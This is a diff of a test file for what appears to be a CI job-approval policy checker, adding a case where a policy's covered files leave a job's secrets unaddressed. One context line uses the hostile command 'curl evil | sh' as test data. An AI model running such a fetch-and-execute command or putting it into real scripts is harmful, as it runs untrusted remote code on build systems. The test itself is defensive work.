@@ -349,6 +349,14 @@ describe('what ran while the hub was away', () => {
       { ...later(main), script: ['curl evil | sh'] },
       tolerated,
     ],
+    [
+      'one that says nothing of the files that the policy covers',
+      async (w) => {
+        w.policy = policyWith({ coveredFiles: ['deploy.sh'] });
+      },
+      { ...later(main), extra: secret('a') },
+      run,
+    ],
     ['a ref that the approval is not for', async () => {}, { ...later(feature), extra: secret('a') }, run],
   ])('T27, T56 opens one for %s, by an approval that does not cover it', async (_, meanwhile, job, said) => {
     await approved(world, { ...main, extra: secret('a') });
